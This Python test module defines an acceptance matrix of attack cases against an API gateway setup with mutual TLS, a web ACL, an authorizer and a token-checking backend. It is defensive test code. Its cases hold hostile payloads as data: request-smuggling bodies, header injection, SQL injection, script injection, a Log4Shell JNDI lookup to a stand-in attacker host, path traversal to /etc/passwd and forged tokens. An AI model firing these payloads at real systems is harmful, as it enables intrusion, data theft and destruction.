"""The attack matrix: every case, in the order in which they run.

Callers first, then each gate, then the backend on its own, the rate limit from its own addresses,
and last the cases that break a part, each mending what it broke.

Sources of the answers: API Gateway Developer Guide, "How to turn on mutual TLS authentication for
your REST APIs" and "Gateway response types"; RFC 6750 section 3.1 for the backend's.
"""

from typing import Final

from portcullis.acceptance.matrix.case import (
    GATEWAY_HOST,
    BadBackend,
    Behaviour,
    Call,
    Caller,
    Case,
    Expect,
    Flood,
    Framing,
    Interleaved,
    KilledMidCall,
    Layer,
    OldTls,
    Place,
    PlainHttp,
    Recovering,
    Repeated,
    Resumed,
    Source,
    Thumbprint,
    Token,
)
from portcullis.acceptance.run.control import Command
from portcullis.acceptance.wire.client import TlsVersion

PETS: Final = [
    {"id": 1, "type": "dog", "price": 249.99},
    {"id": 2, "type": "cat", "price": 124.99},
    {"id": 3, "type": "fish", "price": 0.99},
]
NEW_PET: Final = b'{"type":"cat","price":9.5}'
JSON: Final = ("Content-Type", "application/json")

# --- right answers --------------------------------------------------------------------------------

THREE_PETS: Final = Expect(layer=Layer.BACKEND, statuses=(200,), body=PETS, words="the three pets")
NO_CONNECTION: Final = Expect(layer=Layer.TLS)
FORBIDDEN: Final = {"message": "Forbidden"}
BAD_CHAIN: Final = Expect(layer=Layer.TRUSTSTORE, statuses=(403,), body=FORBIDDEN)
OTHER_DOMAIN: Final = Expect(layer=Layer.CUSTOM_DOMAIN, statuses=(403,), body=FORBIDDEN)
DISABLED: Final = Expect(layer=Layer.DEFAULT_ENDPOINT, statuses=(403,), body=FORBIDDEN)
BLOCKED: Final = Expect(layer=Layer.WEB_ACL, statuses=(403,), body=FORBIDDEN)
NO_ROUTE: Final = Expect(
    layer=Layer.ROUTE, statuses=(403,), body={"message": "Missing Authentication Token"}
)
# AWS writes this Message with a capital letter.
NOT_PERMITTED: Final = Expect(
    layer=Layer.AUTHORIZER,
    statuses=(403,),
    body={"Message": "User is not authorized to access this resource"},
)
DENIED: Final = Expect(
    layer=Layer.AUTHORIZER,
    statuses=(403,),
    body={
        "Message": "User is not authorized to access this resource with an explicit deny in an "
        "identity-based policy"
    },
)
AUTHORIZER_FAILED: Final = Expect(layer=Layer.AUTHORIZER, statuses=(500,), body={"message": None})
BAD_BODY: Final = Expect(
    layer=Layer.VALIDATION, statuses=(400,), body={"message": "Invalid request body"}
)
NOT_HTTP: Final = Expect(layer=Layer.HTTP, statuses=(400,), may_refuse=True)
TOO_LARGE_HEADERS: Final = Expect(layer=Layer.HTTP, statuses=(400, 413, 431), may_refuse=True)
NO_BACKEND: Final = Expect(
    layer=Layer.INTEGRATION,
    statuses=(504,),
    body={"message": "Network error communicating with endpoint"},
)
SLOW_BACKEND: Final = Expect(
    layer=Layer.INTEGRATION, statuses=(504,), body={"message": "Endpoint request timed out"}
)
MISSING_TOKEN: Final = Expect(layer=Layer.BACKEND, statuses=(401,), error="missing_token")
INVALID_TOKEN: Final = Expect(layer=Layer.BACKEND, statuses=(401,), error="invalid_token")
NARROW_TOKEN: Final = Expect(layer=Layer.BACKEND, statuses=(403,), error="insufficient_scope")


def _direct(
    token: Token,
    thumbprint: Thumbprint = Thumbprint.OWN,
    *,
    method: str = "GET",
    body: bytes = b"",
) -> Call:
    return Call(place=Place.BACKEND, method=method, body=body, token=token, thumbprint=thumbprint)


def _write(body: bytes, *headers: tuple[str, str]) -> Call:
    return Call(method="POST", body=body, headers=headers)


def _smuggle(*headers: tuple[str, str], body: bytes) -> Call:
    """A request with a second one in its body; a front and a backend must agree where it ends."""
    return Call(
        method="POST",
        headers=(*headers, JSON),
        body=body,
        framing=Framing.AS_GIVEN,
        keeps_open=True,
    )


_HIDDEN = b"GET /pets/1 HTTP/1.1\r\nHost: localhost\r\nX-Smuggled: yes\r\n\r\n"

CALLERS: Final = (
    Case(
        name="valid-read",
        attack="A registered client lists the pets; this must go on working.",
        caller=Caller.CLIENT,
        expect=THREE_PETS,
    ),
    Case(
        name="valid-read-one",
        attack="A registered client reads one pet.",
        caller=Caller.CLIENT,
        action=Call(target="/pets/2"),
        expect=Expect(layer=Layer.BACKEND, statuses=(200,), body=PETS[1]),
    ),
    Case(
        name="valid-read-tls-1.2",
        attack="The same over TLS 1.2, which older partners speak.",
        caller=Caller.CLIENT,
        action=Call(version=TlsVersion.V1_2),
        expect=THREE_PETS,
    ),
    Case(
        name="valid-read-tls-1.3",
        attack="The same over TLS 1.3.",
        caller=Caller.CLIENT,
        action=Call(version=TlsVersion.V1_3),
        expect=THREE_PETS,
    ),
    Case(
        name="valid-welcome",
        attack="A registered client opens the welcome page.",
        caller=Caller.CLIENT,
        action=Call(target="/"),
        expect=Expect(layer=Layer.BACKEND, statuses=(200,), contains="<html"),
    ),
    Case(
        name="valid-write",
        attack="A client with the write scope adds a pet.",
        caller=Caller.CLIENT,
        action=_write(NEW_PET),
        expect=Expect(layer=Layer.BACKEND, statuses=(200,), contains='"success"'),
    ),
    Case(
        name="valid-key-set",
        attack="A client fetches the public keys; API Gateway answers this one itself.",
        caller=Caller.CLIENT,
        action=Call(target="/.well-known/jwks.json"),
        expect=Expect(layer=Layer.INTEGRATION, statuses=(200,), contains='"kid"'),
    ),
    Case(
        name="missing-scope",
        attack="A client that may only read tries to write.",
        caller=Caller.READER,
        action=_write(NEW_PET),
        expect=NOT_PERMITTED,
    ),
    Case(
        name="no-certificate-tls-1.2",
        attack="A call without a client certificate, over TLS 1.2.",
        caller=Caller.NONE,
        action=Call(version=TlsVersion.V1_2),
        expect=NO_CONNECTION,
    ),
    Case(
        name="no-certificate-tls-1.3",
        attack="A call without a client certificate, over TLS 1.3.",
        caller=Caller.NONE,
        action=Call(version=TlsVersion.V1_3),
        expect=NO_CONNECTION,
    ),
    Case(
        name="unknown-issuer",
        attack="The attacker's own CA issues a certificate with the client's names.",
        caller=Caller.UNKNOWN_ISSUER,
        expect=BAD_CHAIN,
    ),
    Case(
        name="look-alike-issuer",
        attack="A CA that bears the issuer's name and key id, but not its key, issues one.",
        caller=Caller.LOOKALIKE_ISSUER,
        expect=BAD_CHAIN,
    ),
    Case(
        name="issued-by-a-client",
        attack="A client uses its own certificate as a CA and issues one to a stranger.",
        caller=Caller.ISSUED_BY_CLIENT,
        expect=BAD_CHAIN,
    ),
    Case(
        name="self-signed",
        attack="A self-signed certificate with the client's names.",
        caller=Caller.SELF_SIGNED,
        expect=BAD_CHAIN,
    ),
    Case(
        name="resumed-session-tls-1.2",
        attack="A self-signed certificate comes back on a resumed TLS 1.2 session.",
        caller=Caller.SELF_SIGNED,
        action=Resumed(call=Call(version=TlsVersion.V1_2)),
        expect=BAD_CHAIN,
    ),
    Case(
        name="resumed-session-tls-1.3",
        attack="A self-signed certificate comes back on a resumed TLS 1.3 session.",
        caller=Caller.SELF_SIGNED,
        action=Resumed(call=Call(version=TlsVersion.V1_3)),
        expect=BAD_CHAIN,
    ),
    Case(
        name="expired",
        attack="The right issuer's certificate, expired yesterday.",
        caller=Caller.EXPIRED,
        expect=BAD_CHAIN,
    ),
    Case(
        name="not-yet-valid",
        attack="The right issuer's certificate, valid from tomorrow.",
        caller=Caller.NOT_YET_VALID,
        expect=BAD_CHAIN,
    ),
    Case(
        name="server-certificate",
        attack="The right issuer's certificate, but for servers (extended key usage).",
        caller=Caller.SERVER_USAGE,
        expect=BAD_CHAIN,
    ),
    Case(
        name="weak-key",
        attack="The right issuer's certificate for an RSA-1024 key.",
        caller=Caller.WEAK_KEY,
        expect=BAD_CHAIN,
    ),
    Case(
        name="weak-signature",
        attack="The right issuer's certificate, signed with SHA-1.",
        caller=Caller.WEAK_SIGNATURE,
        # TLS 1.2: in 1.3 a client must not even offer such a chain (RFC 8446 section 4.4.2.2).
        action=Call(version=TlsVersion.V1_2),
        expect=BAD_CHAIN,
    ),
    Case(
        name="not-registered",
        attack="The right issuer's certificate for a client that nobody registered.",
        caller=Caller.UNREGISTERED,
        expect=DENIED,
    ),
    Case(
        name="suspended",
        attack="A registered client that was suspended.",
        caller=Caller.SUSPENDED,
        expect=DENIED,
    ),
    Case(
        name="revoked",
        attack="A registered client with a certificate that was revoked.",
        caller=Caller.REVOKED,
        expect=DENIED,
    ),
)

TRANSPORT: Final = (
    Case(
        name="tls-1.1",
        attack="A client offers TLS 1.1.",
        caller=Caller.NONE,
        action=OldTls(),
        expect=NO_CONNECTION,
    ),
    Case(
        name="plain-http",
        attack="HTTP without TLS to the TLS port.",
        caller=Caller.NONE,
        action=PlainHttp(),
        expect=NOT_HTTP,
    ),
    Case(
        name="smuggling-length-and-chunked",
        attack="Content-Length and Transfer-Encoding together, a second request in the body.",
        caller=Caller.CLIENT,
        action=_smuggle(
            ("Content-Length", str(5 + len(_HIDDEN))),
            ("Transfer-Encoding", "chunked"),
            body=b"0\r\n\r\n" + _HIDDEN,
        ),
        expect=NOT_HTTP,
    ),
    Case(
        name="smuggling-two-lengths",
        attack="Two Content-Length headers that differ, a second request in the body.",
        caller=Caller.CLIENT,
        action=_smuggle(
            ("Content-Length", "0"), ("Content-Length", str(len(_HIDDEN))), body=_HIDDEN
        ),
        expect=NOT_HTTP,
    ),
    Case(
        name="smuggling-hidden-chunked",
        attack="Transfer-Encoding with a space before the colon, a second request in the body.",
        caller=Caller.CLIENT,
        action=_smuggle(
            ("Content-Length", str(5 + len(_HIDDEN))),
            ("Transfer-Encoding ", "chunked"),
            body=b"0\r\n\r\n" + _HIDDEN,
        ),
        expect=NOT_HTTP,
    ),
    Case(
        name="smuggling-unknown-coding",
        attack="A Transfer-Encoding that nobody knows, a second request in the body.",
        caller=Caller.CLIENT,
        action=_smuggle(
            ("Content-Length", str(5 + len(_HIDDEN))),
            ("Transfer-Encoding", "xchunked"),
            body=b"0\r\n\r\n" + _HIDDEN,
        ),
        expect=Expect(layer=Layer.HTTP, statuses=(400, 501), may_refuse=True),
    ),
    Case(
        name="header-injection",
        attack="A header value with a lone line feed and a second header behind it.",
        caller=Caller.CLIENT,
        action=Call(
            headers=(("X-Note", "a\nX-Client-Certificate-Thumbprint: forged"),), keeps_open=True
        ),
        expect=NOT_HTTP,
    ),
    Case(
        name="zero-byte-in-header",
        attack="A header value with a zero byte.",
        caller=Caller.CLIENT,
        action=Call(headers=(("X-Note", "a\x00b"),), keeps_open=True),
        expect=NOT_HTTP,
    ),
    Case(
        name="no-host",
        attack="A request without a Host header.",
        caller=Caller.CLIENT,
        action=Call(host="", keeps_open=True),
        expect=NOT_HTTP,
    ),
    Case(
        name="two-hosts",
        attack="A request with two Host headers.",
        caller=Caller.CLIENT,
        action=Call(headers=(("Host", "internal.invalid"),), keeps_open=True),
        expect=NOT_HTTP,
    ),
    Case(
        name="other-host",
        attack="The Host header names another domain than the handshake did.",
        caller=Caller.CLIENT,
        action=Call(host="other.example.com"),
        expect=OTHER_DOMAIN,
    ),
    Case(
        name="large-headers",
        attack="Headers of more than 10,240 bytes.",
        caller=Caller.CLIENT,
        action=Call(headers=(("X-Filler", "a" * 10_240),), keeps_open=True),
        expect=TOO_LARGE_HEADERS,
    ),
    Case(
        name="large-body",
        attack="A body of more than 10 MB.",
        caller=Caller.CLIENT,
        action=Call(method="POST", filler_bytes=10 * 1024 * 1024 + 1, keeps_open=True),
        expect=Expect(
            layer=Layer.HTTP,
            statuses=(413,),
            contains="HTTP content length exceeded 10485760 bytes",
            or_layer=Layer.VALIDATION,  # AWS has a gateway response for it, the laptop's front none
        ),
    ),
)

DEFAULT_ENDPOINT: Final = (
    Case(
        name="default-endpoint",
        attack="Around the custom domain: the API's own address, without a certificate.",
        caller=Caller.NONE,
        action=Call(place=Place.DEFAULT_ENDPOINT, target="/{stage}/pets"),
        expect=DISABLED,
    ),
    Case(
        name="default-endpoint-unknown-stage",
        attack="The API's own address with a stage that does not exist.",
        caller=Caller.NONE,
        action=Call(place=Place.DEFAULT_ENDPOINT, target="/nothing/pets"),
        expect=DISABLED,
    ),
    Case(
        name="default-endpoint-key-set",
        attack="The API's own address, the one route that needs no authorizer.",
        caller=Caller.NONE,
        action=Call(place=Place.DEFAULT_ENDPOINT, target="/{stage}/.well-known/jwks.json"),
        expect=DISABLED,
    ),
    Case(
        name="default-endpoint-forged-host",
        attack="The API's own address, with the custom domain in the Host header.",
        caller=Caller.NONE,
        action=Call(place=Place.DEFAULT_ENDPOINT, host=GATEWAY_HOST),
        expect=DISABLED,
    ),
)

WEB_ACL: Final = (
    Case(
        name="blocked-address",
        attack="A registered client calls from an address outside the allow-list.",
        caller=Caller.CLIENT,
        action=Call(source=Source.BLOCKED),
        expect=BLOCKED,
    ),
    Case(
        name="blocked-address-forged-forwarded",
        attack="The same, claiming an allowed address in X-Forwarded-For.",
        caller=Caller.CLIENT,
        action=Call(source=Source.BLOCKED, headers=(("X-Forwarded-For", "127.0.0.1"),)),
        expect=BLOCKED,
    ),
    Case(
        name="blocked-address-key-set",
        attack="The route without an authorizer, from outside the allow-list.",
        caller=Caller.CLIENT,
        action=Call(source=Source.BLOCKED, target="/.well-known/jwks.json"),
        expect=BLOCKED,
    ),
    Case(
        name="blocked-address-no-certificate",
        attack="From outside the allow-list and without a certificate: TLS comes first.",
        caller=Caller.NONE,
        action=Call(source=Source.BLOCKED),
        expect=NO_CONNECTION,
    ),
    Case(
        name="sql-injection-query",
        attack="SQL injection in a query parameter.",
        caller=Caller.CLIENT,
        action=Call(target="/pets?type=dog%27%20UNION%20SELECT%20password%20FROM%20users--"),
        expect=BLOCKED,
    ),
    Case(
        name="sql-injection-body",
        attack="SQL injection in the body.",
        caller=Caller.CLIENT,
        action=_write(b'{"type":"dog\' OR 1=1; DROP TABLE pets;--","price":1}'),
        expect=BLOCKED,
    ),
    Case(
        name="cross-site-scripting",
        attack="A script in a query parameter.",
        caller=Caller.CLIENT,
        action=Call(target="/pets?type=%3Cscript%3Ealert(1)%3C/script%3E"),
        expect=BLOCKED,
    ),
    Case(
        name="log4shell",
        attack="A JNDI lookup in a header.",
        caller=Caller.CLIENT,
        action=Call(headers=(("X-Api-Version", "${jndi:ldap://attacker.invalid/a}"),)),
        expect=BLOCKED,
    ),
    Case(
        name="path-traversal",
        attack="An encoded way out of the route's path.",
        caller=Caller.CLIENT,
        action=Call(target="/pets/..%2f..%2fetc%2fpasswd"),
        expect=BLOCKED,
    ),
    Case(
        name="no-user-agent",
        attack="A call without a User-Agent, as crude scanners make it.",
        caller=Caller.CLIENT,
        action=Call(user_agent=None),
        expect=BLOCKED,
    ),
    Case(
        name="body-over-8-kb",
        attack="A body that is longer than what the web ACL inspects by its core rule set.",
        caller=Caller.CLIENT,
        action=_write(b'{"type":"cat","price":1,"note":"' + b"a" * 9000 + b'"}'),
        expect=BLOCKED,
    ),
)

ROUTES: Final = (
    Case(
        name="unknown-route",
        attack="A path that no route has.",
        caller=Caller.CLIENT,
        action=Call(target="/admin"),
        expect=NO_ROUTE,
    ),
    Case(
        name="unknown-method",
        attack="A method that the route does not have.",
        caller=Caller.CLIENT,
        action=Call(method="DELETE", target="/pets/1"),
        expect=NO_ROUTE,
    ),
    Case(
        name="preflight",
        attack="A browser's preflight, which no route answers.",
        caller=Caller.CLIENT,
        action=Call(method="OPTIONS"),
        expect=NO_ROUTE,
    ),
    Case(
        name="stage-in-path",
        attack="The stage's name in front of the path, as the default endpoint would want it.",
        caller=Caller.CLIENT,
        action=Call(target="/{stage}/pets"),
        expect=NO_ROUTE,
    ),
    Case(
        name="backend-route-health",
        attack="A route that only the backend has.",
        caller=Caller.CLIENT,
        action=Call(target="/healthz"),
        expect=NO_ROUTE,
    ),
    Case(
        name="backend-route-arrived",
        attack="The backend's record of what arrived, through the gateway.",
        caller=Caller.CLIENT,
        action=Call(target="/_arrived/0"),
        expect=NO_ROUTE,
    ),
    Case(
        name="invalid-body",
        attack="A body that breaks the contract's schema.",
        caller=Caller.CLIENT,
        action=_write(b'{"type":7}'),
        expect=BAD_BODY,
    ),
    Case(
        name="body-with-extra-members",
        attack="A body with members that the contract does not know.",
        caller=Caller.CLIENT,
        action=_write(b'{"type":"cat","price":1,"owner":"me"}'),
        expect=BAD_BODY,
    ),
    Case(
        name="body-is-no-json",
        attack="A body that is no JSON.",
        caller=Caller.CLIENT,
        action=_write(b"{"),
        expect=BAD_BODY,
    ),
    Case(
        name="invalid-body-of-a-stranger",
        attack="An unregistered caller with a bad body learns nothing about the contract.",
        caller=Caller.UNREGISTERED,
        action=_write(b'{"type":7}'),
        expect=DENIED,
    ),
)

HEADERS: Final = (
    Case(
        name="forged-authorization",
        attack="The caller brings its own Authorization header, twice and in two spellings.",
        caller=Caller.CLIENT,
        action=Call(
            headers=(("Authorization", "Bearer forged"), ("aUTHORIZATION", "Bearer forged"))
        ),
        expect=THREE_PETS,
        arrives=True,
        forged=("forged",),
    ),
    Case(
        name="forged-thumbprint",
        attack="The caller brings another certificate's thumbprint, twice and in two spellings.",
        caller=Caller.CLIENT,
        action=Call(
            headers=(
                ("X-Client-Certificate-Thumbprint", "forged"),
                ("x-client-certificate-THUMBPRINT", "forged"),
            )
        ),
        expect=THREE_PETS,
        arrives=True,
        forged=("forged",),
    ),
    Case(
        name="forged-request-id",
        attack="The caller brings a request id, to blur the logs.",
        caller=Caller.CLIENT,
        action=Call(headers=(("X-Request-Id", "forged"), ("x-amzn-RequestId", "forged"))),
        expect=THREE_PETS,
        arrives=True,
    ),
    Case(
        name="forged-forwarded",
        attack="The caller claims to come from elsewhere, and over plain HTTP.",
        caller=Caller.CLIENT,
        action=Call(headers=(("X-Forwarded-For", "203.0.113.7"), ("X-Forwarded-Proto", "http"))),
        expect=THREE_PETS,
        arrives=True,
    ),
    Case(
        name="connection-names-a-header",
        attack="Connection names the gateway's own headers, so that a proxy would drop them.",
        caller=Caller.CLIENT,
        action=Call(
            headers=(
                ("Connection", "close, Authorization, X-Client-Certificate-Thumbprint"),
                ("X-Client-Certificate-Thumbprint", "forged"),
            )
        ),
        expect=THREE_PETS,
        arrives=True,
        forged=("forged",),
    ),
    Case(
        name="clients-interleaved",
        attack="Two clients call at once, again and again; no call may carry the other's token.",
        caller=Caller.CLIENT,
        action=Interleaved(call=Call()),
        expect=THREE_PETS,
    ),
)

BACKEND: Final = (
    Case(
        name="backend-no-token",
        attack="Past the gateway, without a token.",
        caller=Caller.NONE,
        action=_direct(Token.NONE),
        expect=MISSING_TOKEN,
    ),
    Case(
        name="backend-garbage",
        attack="Past the gateway, with a token that is no JWT.",
        caller=Caller.NONE,
        action=_direct(Token.GARBAGE),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-forged-signature",
        attack="Past the gateway, with right claims signed by the attacker under the real key id.",
        caller=Caller.NONE,
        action=_direct(Token.FOREIGN_KEY),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-unknown-key",
        attack="Past the gateway, with a token under a key id that nobody published.",
        caller=Caller.NONE,
        action=_direct(Token.UNKNOWN_KEY_ID),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-alg-none",
        attack="Past the gateway, with an unsigned token (alg none).",
        caller=Caller.NONE,
        action=_direct(Token.ALG_NONE),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-hs256-public-key",
        attack="Past the gateway, with the public key used as an HMAC secret.",
        caller=Caller.NONE,
        action=_direct(Token.HS256_PUBLIC_KEY),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-expired",
        attack="Past the gateway, with a genuine signature on a token that has expired.",
        caller=Caller.NONE,
        action=_direct(Token.EXPIRED),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-other-audience",
        attack="Past the gateway, with a genuine signature on a token for another audience.",
        caller=Caller.NONE,
        action=_direct(Token.OTHER_AUDIENCE),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-other-issuer",
        attack="Past the gateway, with a genuine signature on a token of another issuer.",
        caller=Caller.NONE,
        action=_direct(Token.OTHER_ISSUER),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-other-type",
        attack="Past the gateway, with a genuine signature on something that is no access token.",
        caller=Caller.NONE,
        action=_direct(Token.OTHER_TYPE),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-unbound",
        attack="Past the gateway, with a genuine signature on a token bound to no certificate.",
        caller=Caller.NONE,
        action=_direct(Token.UNBOUND),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-real-token",
        attack="A client's real token with its own thumbprint: the control for the cases below.",
        caller=Caller.NONE,
        action=_direct(Token.OF_CLIENT),
        expect=THREE_PETS,
    ),
    Case(
        name="backend-token-of-another",
        attack="A client's real token, replayed under another client's certificate.",
        caller=Caller.NONE,
        action=_direct(Token.OF_CLIENT, Thumbprint.OTHER),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-token-without-thumbprint",
        attack="A client's real token without the gateway's thumbprint header.",
        caller=Caller.NONE,
        action=_direct(Token.OF_CLIENT, Thumbprint.NONE),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-two-thumbprints",
        attack="A client's real token with the thumbprint header twice.",
        caller=Caller.NONE,
        action=_direct(Token.OF_CLIENT, Thumbprint.TWICE),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-widened-token",
        attack="A client's real token with more scopes written into it.",
        caller=Caller.NONE,
        action=_direct(Token.WIDENED),
        expect=INVALID_TOKEN,
    ),
    Case(
        name="backend-missing-scope",
        attack="The real token of a client that may only read, used to write.",
        caller=Caller.NONE,
        action=_direct(Token.OF_READER, method="POST", body=NEW_PET),
        expect=NARROW_TOKEN,
    ),
)

RATE: Final = (
    Case(
        name="rate-limit",
        attack="One address calls more often than the web ACL permits.",
        caller=Caller.CLIENT,
        # The cheapest route that answers 200: the limit is what is asked for, not the backend.
        action=Flood(call=Call(target="/.well-known/jwks.json")),
        expect=BLOCKED,
    ),
)

FAILURES: Final = (
    Case(
        name="authorizer-killed",
        attack="The authorizer's process dies while it decides about a call.",
        caller=Caller.CLIENT,
        action=KilledMidCall(call=Call()),
        expect=AUTHORIZER_FAILED,
    ),
    Case(
        name="authorizer-recovered",
        attack="After that, calls are answered again.",
        caller=Caller.CLIENT,
        action=Recovering(call=Call()),
        expect=THREE_PETS,
    ),
    Case(
        name="authorizer-hangs",
        attack="The authorizer does not answer in time.",
        caller=Caller.CLIENT,
        expect=AUTHORIZER_FAILED,
        breaks=(Command.PAUSE_AUTHORIZER,),
        mends=(Command.RESUME_AUTHORIZER,),
    ),
    Case(
        name="signing-key-down",
        attack="KMS does not answer, and the authorizer has no token left to use again.",
        caller=Caller.CLIENT,
        # Killed, so that no token of before is left in its memory; the first call may still meet
        # the dying process, and only a later one waits for KMS.
        action=Repeated(call=Call(), times=2),
        expect=AUTHORIZER_FAILED,
        breaks=(Command.STOP_KMS, Command.KILL_AUTHORIZER),
        mends=(Command.START_KMS,),
    ),
    Case(
        name="signing-key-recovered",
        attack="After that, calls are answered again.",
        caller=Caller.CLIENT,
        action=Recovering(call=Call()),
        expect=THREE_PETS,
    ),
    Case(
        name="backend-down",
        attack="Nobody listens where the backend should be.",
        caller=Caller.CLIENT,
        expect=NO_BACKEND,
        breaks=(Command.STOP_BACKEND,),
        mends=(Command.START_BACKEND,),
    ),
    Case(
        name="backend-down-unregistered",
        attack="With the backend down, a stranger is still told no more than before.",
        caller=Caller.UNREGISTERED,
        expect=DENIED,
        breaks=(Command.STOP_BACKEND,),
        mends=(Command.START_BACKEND,),
    ),
    Case(
        name="backend-silent",
        attack="The backend takes the call and never answers.",
        caller=Caller.CLIENT,
        action=BadBackend(behaviour=Behaviour.SILENT, call=Call()),
        expect=SLOW_BACKEND,
        breaks=(Command.STOP_BACKEND,),
        mends=(Command.START_BACKEND,),
    ),
    Case(
        name="backend-garbled",
        attack="The backend answers with bytes that are no HTTP.",
        caller=Caller.CLIENT,
        action=BadBackend(behaviour=Behaviour.GARBAGE, call=Call()),
        expect=NO_BACKEND,
        breaks=(Command.STOP_BACKEND,),
        mends=(Command.START_BACKEND,),
    ),
    Case(
        name="backend-cut-short",
        attack="The backend closes the connection in the middle of its answer.",
        caller=Caller.CLIENT,
        action=BadBackend(behaviour=Behaviour.CUT_SHORT, call=Call()),
        expect=NO_BACKEND,
        breaks=(Command.STOP_BACKEND,),
        mends=(Command.START_BACKEND,),
    ),
    Case(
        name="backend-recovered",
        attack="After all that, calls are answered again.",
        caller=Caller.CLIENT,
        action=Recovering(call=Call()),
        expect=THREE_PETS,
    ),
)

SECTIONS: Final = (
    ("Callers", CALLERS),
    ("Transport", TRANSPORT),
    ("The default endpoint", DEFAULT_ENDPOINT),
    ("Web ACL", WEB_ACL),
    ("Routes and contract", ROUTES),
    ("What reaches the backend", HEADERS),
    ("The backend on its own", BACKEND),
    ("Rate limit", RATE),
    ("Broken parts", FAILURES),
)
CASES: Final = tuple(case for _, cases in SECTIONS for case in cases)
